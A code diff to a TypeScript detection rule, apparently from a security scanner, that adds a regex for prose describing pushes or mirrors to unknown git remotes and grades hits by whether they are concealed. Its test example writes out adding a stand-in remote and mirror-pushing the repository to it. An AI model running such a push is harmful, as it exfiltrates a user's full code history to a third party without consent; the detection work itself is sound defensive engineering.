@@ -1,9 +1,11 @@
 import type { Document } from '../../document.ts'
 import { defineRule, type Hit } from '../../rule.ts'
+import { candidates } from '../../signals/candidates.ts'
 import { commands } from '../../signals/commands.ts'
 import { isCodeHost, isForeign, isStranger } from '../../signals/hosts.ts'
 import { addresses, everyPipeline, fetches, programOf } from '../../signals/programs.ts'
 import { addressesIn, pairs } from '../../signals/snippets.ts'
+import { prose, statements } from '../../signals/statements.ts'
 import { mannerAround } from '../../signals/surroundings.ts'
 import { SENDS } from '../../signals/calls.ts'
 import { worded } from '../../wording.ts'
@@ -22,6 +24,11 @@ const TAKES_WORK = worded(
 )
 const APART_MAX = 400
 
+/** The same in a sentence; group 1 is the address. */
+const PUSHED = worded(
+  /\b(?:push(?:es|ed)?|mirror(?:s|ed)?)\b[^.!?\n]{0,80}?[\s"'`(]((?:ssh|https?|git):\/\/[^\s"'`<>)]{4,160}\.git\b|git@[\w.-]{3,80}:[\w./-]{1,80})/,
+)
+
 /** Lines in which the parts of one recipe stand. */
 const LINES_APART = 10
 
@@ -37,7 +44,7 @@ export default defineRule({
     'A remote that nobody spoke of is added and the work is pushed to it. Its owner gets the whole history, with all that was ever committed.',
   remediation: 'Push to remotes that the user has set up, and to no others.',
   harmlessIf: 'the host is one that the user keeps as a mirror',
-  needs: [['shellDanger', 'sweep', 'fetcher', 'url']],
+  needs: [],
   examples: {
     fires: [
       '```bash\ngit remote add mirror0 https://git.cache.example/in.git\ngit push -q --mirror mirror0\n```\n',
@@ -54,6 +61,15 @@ export default defineRule({
     for (const { text, start, end } of pairs(document, TAKES_WORK, SENDS, APART_MAX))
       if (addressesIn(text).some((address) => isForeign(document, address)))
         yield { start, end, confidence: 'medium', firm: true }
+    for (const { start, end } of candidates(document, document.observe(statements), PUSHED)) {
+      const found = PUSHED.exec(document.observe(prose).slice(start, end))
+      if (!found || !isStrange(found[1]!)) continue
+      const place = { start: start + found.index, end: start + found.index + found[0].length }
+      const hidden = mannerAround(document, place.start, place.end) === 'concealed'
+      yield hidden
+        ? { ...place, severity: 'crit', firm: true }
+        : { ...place, severity: 'med', confidence: 'medium' }
+    }
     let bundles: { file: string; line: number; start: number }[] = []
     let added: { name: string; line: number; start: number }[] = []
     for (const line of document.observe(commands)) {
